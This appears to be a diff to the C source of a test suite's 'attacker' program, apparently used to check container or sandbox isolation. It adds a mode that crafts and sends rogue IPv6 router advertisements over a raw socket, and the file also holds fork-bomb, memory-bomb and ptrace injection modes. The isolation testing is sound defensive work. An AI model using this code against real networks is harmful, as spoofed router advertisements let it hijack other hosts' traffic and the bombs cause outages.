@@ -1,9 +1,15 @@
 // The hostile program of the tests, static, so that it runs in any root file system: `attacker MODE ...`. What it gets hold
 // of it writes to standard output, a line each; nothing else.
 #define _GNU_SOURCE
+#include <arpa/inet.h>
 #include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
+#include <net/ethernet.h>
+#include <net/if.h>
+#include <netinet/icmp6.h>
+#include <netinet/ip6.h>
+#include <netpacket/packet.h>
 #include <sched.h>
 #include <signal.h>
 #include <stdio.h>
@@ -13,6 +19,7 @@
 #include <sys/mount.h>
 #include <sys/mman.h>
 #include <sys/ptrace.h>
+#include <sys/socket.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
 #include <sys/wait.h>
@@ -164,6 +171,49 @@ static int inject(void) {
   return 0;
 }
 
+// advertise LINK: this machine is the router of everybody on the link, and this is their network (RFC 4861, 4.2).
+static int advertise(const char *link) {
+  static const unsigned char everybody[6] = {0x33, 0x33, 0, 0, 0, 1};
+  struct __attribute__((packed)) {
+    struct ether_header ethernet;
+    struct ip6_hdr ip;
+    struct nd_router_advert router;
+    struct nd_opt_prefix_info prefix;
+  } frame = {0};
+  memcpy(frame.ethernet.ether_dhost, everybody, 6);
+  memcpy(frame.ethernet.ether_shost, "\x02\xba\xd0\0\0\1", 6);
+  frame.ethernet.ether_type = htons(ETHERTYPE_IPV6);
+  uint16_t size = sizeof frame - sizeof frame.ethernet - sizeof frame.ip;
+  frame.ip.ip6_vfc = 6 << 4;
+  frame.ip.ip6_plen = htons(size);
+  frame.ip.ip6_nxt = IPPROTO_ICMPV6;
+  frame.ip.ip6_hlim = 255;
+  inet_pton(AF_INET6, "fe80::bad", &frame.ip.ip6_src);
+  inet_pton(AF_INET6, "ff02::1", &frame.ip.ip6_dst);
+  frame.router.nd_ra_type = ND_ROUTER_ADVERT;
+  frame.router.nd_ra_curhoplimit = 64;
+  frame.router.nd_ra_router_lifetime = htons(1800);
+  frame.prefix.nd_opt_pi_type = ND_OPT_PREFIX_INFORMATION;
+  frame.prefix.nd_opt_pi_len = 4;
+  frame.prefix.nd_opt_pi_prefix_len = 64;
+  frame.prefix.nd_opt_pi_flags_reserved = ND_OPT_PI_FLAG_ONLINK | ND_OPT_PI_FLAG_AUTO;
+  frame.prefix.nd_opt_pi_valid_time = frame.prefix.nd_opt_pi_preferred_time = htonl(1800);
+  inet_pton(AF_INET6, "2001:db8:bad::", &frame.prefix.nd_opt_pi_prefix);
+  // RFC 4443, 2.3: over the addresses, the length, the protocol and the message.
+  uint32_t sum = size + IPPROTO_ICMPV6;
+  const unsigned char *covered = (const unsigned char *)&frame.ip.ip6_src;
+  const unsigned char *end = (const unsigned char *)(&frame + 1);
+  for (; covered < end; covered += 2) sum += (uint32_t)(covered[0] << 8 | covered[1]);
+  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
+  frame.router.nd_ra_cksum = htons((uint16_t)~sum);
+  int raw = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0);
+  struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(link), .sll_halen = 6};
+  memcpy(to.sll_addr, everybody, 6);
+  for (int i = 0; i < 3; i++)
+    if (sendto(raw, &frame, sizeof frame, 0, (struct sockaddr *)&to, sizeof to) < 0) return 1;
+  return 0;
+}
+
 static int forkBomb(void) {
   signal(SIGCHLD, SIG_IGN);
   for (;;)
@@ -197,6 +247,7 @@ int main(int argc, char **argv) {
   if (!strcmp(mode, "descriptors")) return descriptors();
   if (!strcmp(mode, "cgroup")) return cgroup();
   if (!strcmp(mode, "inject")) return inject();
+  if (!strcmp(mode, "advertise")) return advertise(argv[2]);
   if (!strcmp(mode, "fork-bomb")) return forkBomb();
   if (!strcmp(mode, "memory-bomb")) return memoryBomb();
   if (!strcmp(mode, "see")) return see(argc - 2, argv + 2);
